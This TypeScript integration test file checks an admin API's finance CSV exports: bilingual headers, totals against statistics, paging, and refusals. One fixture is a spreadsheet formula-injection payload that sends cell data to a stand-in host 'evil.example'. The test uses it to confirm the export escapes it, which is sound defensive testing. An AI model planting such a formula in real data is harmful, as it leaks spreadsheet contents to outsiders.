/**
 * Finance exports (SPEC §12, issue 21 item 5) through the real admin API, export queue, worker,
 * table and local S3 server: the CSV as downloaded from its URL (byte-order mark, headers in both
 * languages, a hostile organisation name neutralised), its rows and total against the statistics
 * the tally keeps (GET /v1/admin/statistics) and against the records themselves, a year of more
 * than one page, a redelivered job changing nothing; admins only; bad input 400 naming the field
 * with nothing stored and nothing queued.
 */
import { randomUUID } from 'node:crypto';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { GetQueueAttributesCommand, SendMessageCommand } from '@aws-sdk/client-sqs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminApiWith, handler as adminApi } from '../../functions/admin-api/handler.js';
import { EXPORT_PAGE_SIZE } from '../../functions/commons/exports/rows.js';
import { applicationItem } from '../../functions/commons/store/items/application-item.js';
import type { ApplicationRecord } from '../../shared/domain/application.js';
import { writeShard } from '../../functions/commons/store/items/keys.js';
import { clock } from '../../functions/commons/runtime/clock.js';
import { csvChunks } from '../../functions/commons/files/csv.js';
import { PART_BYTES, reportKey, writeReport } from '../../functions/commons/files/report-files.js';
import { handler as exportWorker } from '../../functions/export-worker/handler.js';
import { formatYuan, parseYuan } from '../../shared/policy/index.js';
import { payoutItem, sampleApplication, seedItems } from '../support/applications.js';
import { localAws, localS3, makeClients, tallyStatistics } from '../support/emulators/env.js';
import { admin, applicant, caller } from '../support/http-events.js';
import { adminApiDepsOf } from '../support/function-deps.js';
import { REPORT_BUCKET } from '../../shared/contract/resources.js';
import { tableItems } from '../support/local-api.js';
import { drainPayouts } from '../payout/payout-support.js';
import { drainQueue as drainSqs } from '../payout/queue-driver.js';
import {
  body,
  certify,
  doc,
  newApplicantId,
  review,
  sqs,
  submitAndEvaluate,
  tableName,
} from '../write-path/write-path.js';

const api = caller(adminApi);
const exportQueueUrl = localAws().env.EXPORT_QUEUE_URL!;
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

/** A year no other data touches: its ledger and awards span several Query pages of one shard. */
const PAGED_YEAR = 2019;
const PAGED_ENTRIES = 2 * EXPORT_PAGE_SIZE + 31;

const runExports = () => drainSqs({ sqs, queueUrl: exportQueueUrl, handler: exportWorker, batchSize: 1 });

async function exportOf(kind: 'LEDGER' | 'AWARDS', fiscalYear: number, language = 'en') {
  const started = await api('POST /v1/admin/exports', {
    as: admin(),
    body: { kind, fiscalYear },
    headers: { 'accept-language': language },
  });
  expect(started.status).toBe(202);
  expect(started.headers.location).toBe(`/v1/admin/exports/${started.body.exportId}`);
  expect(started.body).toEqual({ exportId: expect.any(String), kind, fiscalYear, status: 'PENDING' });
  await runExports();
  const done = await api('GET /v1/admin/exports/{id}', { as: admin(), path: { id: started.body.exportId } });
  expect(done.status).toBe(200);
  expect(done.body.status).toBe('DONE');
  const download = await fetch(done.body.download.url);
  expect(download.status).toBe(200);
  const bytes = Buffer.from(await download.arrayBuffer());
  return { record: done.body, bytes, download, rows: parse(bytes, { bom: true }) as string[][] };
}

const statisticsOf = async (fiscalYear: number) =>
  (await api('GET /v1/admin/statistics', { as: admin(), query: { fiscalYear: String(fiscalYear) } })).body.totals;

const sum = (amounts: string[]) => formatYuan(amounts.reduce((total, amount) => total + parseYuan(amount), 0n));

let thisYear: number;
const decided: ApplicationRecord[] = [];

beforeAll(async () => {
  await localS3();
  const platform = newApplicantId();
  await certify(platform);
  decided.push(await submitAndEvaluate(platform, body('OSP_RND')));
  decided.push(
    await submitAndEvaluate(platform, body('OSP_OPERATING', { fiscalYear: 2021, operatingCosts: '2000000.00' })),
  );
  const hostile = newApplicantId();
  const activity = await submitAndEvaluate(hostile, {
    ...body('AI_ACTIVITY'),
    organisation: { ...body('AI_ACTIVITY').organisation, name: HOSTILE_NAME },
  });
  expect((await review(activity.applicationId, { decision: 'APPROVE', amount: '123456.78', note: 'OK.' })).status).toBe(
    200,
  );
  const realNow = clock.now;
  clock.now = () => new Date('2022-03-02T00:00:00Z');
  try {
    expect((await api('POST /v1/admin/payout-runs', { as: admin(), body: { fiscalYear: 2021 } })).status).toBe(202);
    await drainPayouts();
  } finally {
    clock.now = realNow;
  }
  thisYear = Number(decided[0]!.submittedAt.slice(0, 4));

  // A paged year: paid operating-cost entitlements whose ids all fall into shard 0, with their ledger entries.
  const ids: string[] = [];
  while (ids.length < PAGED_ENTRIES) {
    const id = randomUUID();
    if (writeShard(id) === 0) ids.push(id);
  }
  const records = ids.map((applicationId, i) => {
    const amount = formatYuan(BigInt(100_000 + i * 137));
    const record = sampleApplication({
      applicantId: `paged-${i}`,
      applicationId,
      programme: 'OSP_OPERATING',
      status: 'PAID',
      submittedAt: `${PAGED_YEAR + 1}-01-15T02:00:00.000Z`,
      decision: { outcome: 'ELIGIBLE', amount, capApplied: false, policyVersion: 'LG-AI-2020-R1', reasons: [] },
    });
    return { ...record, details: { fiscalYear: PAGED_YEAR, operatingCosts: '9000000.00' } };
  });
  await seedItems(doc, tableName, [
    ...records.map(applicationItem),
    // As the payout worker writes them (functions/commons/payouts/pay.ts ledgerEntry): with the fen the tally adds.
    ...records.map((record) => ({
      ...payoutItem({
        applicationId: record.applicationId,
        applicantId: record.applicantId,
        fiscalYear: PAGED_YEAR,
        amount: record.decision!.amount!,
        issuedAt: `${PAGED_YEAR + 1}-03-01T00:00:00.000Z`,
      }),
      amountFen: Number(parseYuan(record.decision!.amount!)),
      runId: 'seeded-run',
    })),
  ]);
  await tallyStatistics(localAws().resources);
});

afterAll(async () => (await localS3()).stop());

describe('an export of the awards', () => {
  it('is CSV with a byte-order mark, headers in the negotiated language, and a hostile name neutralised', async () => {
    const zh = await exportOf('AWARDS', thisYear, 'zh-CN');
    const en = await exportOf('AWARDS', thisYear, 'en');
    expect([...zh.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect([...en.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(zh.download.headers.get('content-disposition')).toBe(`attachment; filename="awards-${thisYear}.csv"`);
    expect(zh.record.language).toBe('zh-CN');
    expect(zh.rows[0]).toContain('申报单位');
    expect(zh.rows[0]).toContain('核定金额（元）');
    expect(en.rows[0]).toContain('Organisation');
    expect(en.rows[0]).toContain('Amount awarded (yuan)');
    const organisation = en.rows[0]!.indexOf('Organisation');
    const names = en.rows.slice(1).map((row) => row[organisation]);
    expect(names).toContain(`'${HOSTILE_NAME}`);
    expect(names).not.toContain(HOSTILE_NAME);
    expect(zh.rows.slice(1).map((row) => row[zh.rows[0]!.indexOf('状态')])).toContain('审核通过');
  });

  it('holds what the year awarded: its total is the statistics’ awarded total, row by row the records', async () => {
    const { record, rows } = await exportOf('AWARDS', thisYear);
    const [header, ...lines] = rows;
    const amount = header!.indexOf('Amount awarded (yuan)');
    const application = header!.indexOf('Application');
    const totals = await statisticsOf(thisYear);
    expect(record.amount).toBe(totals.awarded.total);
    expect(sum(lines.map((line) => line[amount]!))).toBe(totals.awarded.total);
    expect(record.rows).toBe(lines.length);
    // This year's awards of this file: the R&D decision and the reviewed activity (the operating claim is 2021's).
    expect(lines.map((line) => line[application])).toContain(decided[0]!.applicationId);
    expect(lines.map((line) => line[application])).not.toContain(decided[1]!.applicationId);
  });

  it('reads a year of several pages whole, and a redelivered job changes nothing', async () => {
    const { record, rows } = await exportOf('AWARDS', PAGED_YEAR);
    expect(rows).toHaveLength(PAGED_ENTRIES + 1);
    expect(record.amount).toBe((await statisticsOf(PAGED_YEAR)).awarded.total);
    const before = await tableItems(doc, tableName);
    await sqs.send(
      new SendMessageCommand({ QueueUrl: exportQueueUrl, MessageBody: JSON.stringify({ exportId: record.exportId }) }),
    );
    expect((await runExports()).failedRecords).toBe(0);
    expect(await tableItems(doc, tableName)).toEqual(before);
  });
});

describe('an export of the ledger', () => {
  it('holds the payments of the year: the statistics’ paid total, one row per ledger entry, over several pages', async () => {
    const { record, rows } = await exportOf('LEDGER', PAGED_YEAR, 'zh-CN');
    const [header, ...lines] = rows;
    expect(header).toEqual([
      '拨付编号',
      '拨付时间（北京时间）',
      '年度',
      '申报编号',
      '申报单位账号',
      '申报单位',
      '统一社会信用代码',
      '拨付金额（元）',
      '拨付批次',
    ]);
    const totals = await statisticsOf(PAGED_YEAR);
    expect(lines).toHaveLength(PAGED_ENTRIES);
    expect(totals.paid.payments).toBe(PAGED_ENTRIES);
    expect(sum(lines.map((line) => line[7]!))).toBe(totals.paid.total);
    expect(record.amount).toBe(totals.paid.total);
    expect(new Set(lines.map((line) => line[0])).size).toBe(PAGED_ENTRIES);
    expect(lines[0]![1]).toBe(`${PAGED_YEAR + 1}-03-01 08:00:00`);
  });

  it('of a year paid by a payout run equals the run’s ledger', async () => {
    const { rows } = await exportOf('LEDGER', 2021);
    const [header, ...lines] = rows;
    expect(lines).toHaveLength(1);
    expect(lines[0]![header!.indexOf('Application')]).toBe(decided[1]!.applicationId);
    expect(lines[0]![header!.indexOf('Amount (yuan)')]).toBe((await statisticsOf(2021)).paid.total);
  });
});

describe('refusals', () => {
  const queued = async () =>
    Number(
      (
        await sqs.send(
          new GetQueueAttributesCommand({ QueueUrl: exportQueueUrl, AttributeNames: ['ApproximateNumberOfMessages'] }),
        )
      ).Attributes?.ApproximateNumberOfMessages,
    );

  it.each([
    [{ kind: 'PAYROLL', fiscalYear: 2021 }, 'kind'],
    [{ fiscalYear: 2021 }, 'kind'],
    [{ kind: 'LEDGER', fiscalYear: '2021' }, 'fiscalYear'],
    [{ kind: 'LEDGER', fiscalYear: 1899 }, 'fiscalYear'],
    [{ kind: 'LEDGER', fiscalYear: 2021, bucket: 'public' }, 'bucket'],
  ])('%j is 400 naming %s; nothing stored or queued', async (payload, field) => {
    const before = await tableItems(doc, tableName);
    const response = await api('POST /v1/admin/exports', { as: admin(), body: payload });
    expect(response.status).toBe(400);
    expect(response.body.errors.map((error: { path: string }) => error.path)).toContain(field);
    expect(await tableItems(doc, tableName)).toEqual(before);
    expect(await queued()).toBe(0);
  });

  it('answers only administrators (403), storing and queueing nothing', async () => {
    const before = await tableItems(doc, tableName);
    const someone = applicant(newApplicantId());
    const post = await api('POST /v1/admin/exports', { as: someone, body: { kind: 'LEDGER', fiscalYear: 2021 } });
    const get = await api('GET /v1/admin/exports/{id}', { as: someone, path: { id: randomUUID() } });
    expect([post.status, get.status]).toEqual([403, 403]);
    expect(await tableItems(doc, tableName)).toEqual(before);
    expect(await queued()).toBe(0);
  });

  it('is recorded FAILED at once, answered 202 saying so, when its job cannot be queued: never PENDING forever', async () => {
    // The real local SQS server refuses the send: the queue the API is composed on does not exist.
    const outage = caller(
      adminApiWith({ ...adminApiDepsOf(localAws().resources), exportQueue: `${exportQueueUrl}-gone` }),
    );
    const started = await outage('POST /v1/admin/exports', { as: admin(), body: { kind: 'LEDGER', fiscalYear: 2021 } });
    expect(started.status).toBe(202);
    expect(started.body.status).toBe('FAILED');
    const read = await api('GET /v1/admin/exports/{id}', { as: admin(), path: { id: started.body.exportId } });
    expect(read.body).toMatchObject({ status: 'FAILED', completedAt: expect.any(String) });
    expect(read.body.download).toBeUndefined();
    expect(await queued()).toBe(0);
  });

  it('is 404 for an export that does not exist', async () => {
    for (const id of [randomUUID(), 'not-a-uuid'])
      expect((await api('GET /v1/admin/exports/{id}', { as: admin(), path: { id } })).status).toBe(404);
  });
});

describe('a report file', () => {
  it('of several parts is written as it comes and reads back whole', async () => {
    const columns = [{ header: { en: 'n', 'zh-CN': '序号' }, value: (n: number) => `${n},${'x'.repeat(200)}` }];
    const rowsNeeded = Math.ceil((2.2 * PART_BYTES) / 210);
    async function* pages() {
      for (let start = 0; start < rowsNeeded; start += 1000)
        yield Array.from({ length: Math.min(1000, rowsNeeded - start) }, (_, i) => start + i);
    }
    const key = reportKey('test', randomUUID());
    const bucket = localAws().resources.buckets[REPORT_BUCKET.id]!;
    const bytes = await writeReport(bucket, key, csvChunks(columns, pages(), 'en'), 'text/csv; charset=utf-8');
    expect(bytes).toBeGreaterThan(2 * PART_BYTES);
    const object = await makeClients().s3Client.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    const text = Buffer.from(await object.Body!.transformToByteArray());
    expect(text.length).toBe(bytes);
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows).toHaveLength(rowsNeeded + 1);
    expect(rows.at(-1)![0]).toBe(`${rowsNeeded - 1},${'x'.repeat(200)}`);
  });
});
